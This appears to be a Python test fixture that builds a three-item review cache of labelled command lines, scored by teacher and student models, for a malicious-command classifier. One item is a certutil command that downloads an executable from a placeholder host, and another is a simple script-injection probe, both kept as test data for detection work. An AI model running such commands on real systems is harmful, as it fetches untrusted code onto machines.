"""A hand-made review cache (three items, two models) for the exchange-format tests."""

from __future__ import annotations

from pathlib import Path

from distilsec.data.review_items import ReviewCache, ReviewItem, read_review_cache, write_review_cache


def small_cache(folder: Path) -> ReviewCache:
    items = [
        ReviewItem(
            "i1",
            "train",
            "certutil -urlcache -f http://x/a a.exe",
            "benign",
            "certutil",
            "lolbas",
            scores={"teacher": 0.93, "student": 0.41},
            proba={"teacher": [0.07, 0.93], "student": [0.59, 0.41]},
            predicted={"teacher": "malicious", "student": "benign"},
            value=2.1,
            reasons=["teacher says 'malicious'"],
            rank=0,
        ),
        ReviewItem(
            "i2",
            "test",
            "<script>alert(1)</script>",
            "benign",
            "web",
            "tldr",
            scores={"teacher": 0.2, "student": 0.1},
            proba={"teacher": [0.8, 0.2], "student": [0.9, 0.1]},
            predicted={"teacher": "benign", "student": "benign"},
            value=0.5,
            rank=1,
        ),
        ReviewItem("i3", "train", "ls -la", "benign", "ls", "tldr", value=0.0),
    ]
    meta = {
        "classes": ["benign", "malicious"],
        "task": "cmdline",
        "positive": "malicious",
        "negative": "benign",
        "models": {
            "teacher": {"type": "encoder.v1", "threshold": 0.5, "version": "teacher:encoder.v1@abc"},
            "student": {"type": "char_cnn.v1", "threshold": 0.6, "version": "student:char_cnn.v1@def"},
        },
        "queue": ["i1", "i2"],
    }
    write_review_cache(folder, meta, items)
    return read_review_cache(folder)
